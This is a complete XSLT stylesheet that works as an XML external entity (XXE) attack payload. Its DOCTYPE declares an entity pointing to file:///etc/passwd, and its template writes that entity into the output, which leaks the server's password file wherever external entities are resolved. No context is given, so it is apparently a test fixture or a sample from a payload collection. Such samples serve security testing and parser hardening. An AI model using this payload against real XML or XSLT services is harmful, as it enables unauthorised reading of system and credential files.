<?xml version="1.0"?>
<!DOCTYPE xsl:stylesheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><out>&secret;</out></xsl:template>
</xsl:stylesheet>
